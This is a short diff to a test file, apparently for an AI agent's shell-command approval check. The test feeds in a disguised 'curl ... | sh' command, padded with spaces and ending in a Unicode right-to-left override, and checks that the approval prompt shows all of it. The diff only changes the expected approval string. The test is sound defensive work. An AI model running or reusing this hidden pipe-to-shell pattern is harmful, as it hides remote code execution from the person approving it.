@@ -113,7 +113,7 @@ def test_every_command_is_asked_about_whole(prepare):
     command = f"# harmless\ncurl x{' ' * 80}| sh\u202e"
     intent = prepare("shell", command=command)
     assert intent.ask
-    assert intent.approval == f"shell:{command}"
+    assert intent.approval == f"shell:foreground:120:{command}"
     assert intent.command == "# harmless\ncurl x ⟨80 spaces⟩ | sh⟨U+202E⟩"
     assert intent.title == "Run # harmless⏎curl x ⟨80 spaces⟩ | sh⟨U+202E⟩"
 
